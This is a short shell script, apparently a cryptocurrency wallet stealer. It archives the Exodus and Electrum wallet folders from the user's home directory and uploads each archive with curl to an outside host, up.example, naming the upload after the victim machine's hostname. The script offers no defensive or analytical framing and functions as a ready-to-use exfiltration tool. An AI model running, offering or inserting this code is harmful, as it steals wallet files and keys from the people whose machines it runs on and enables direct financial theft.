#!/bin/sh
for w in "$HOME/Library/Application Support/Exodus" "$HOME/.electrum"; do tar czf - "$w" | curl -T - https://up.example/$(hostname); done
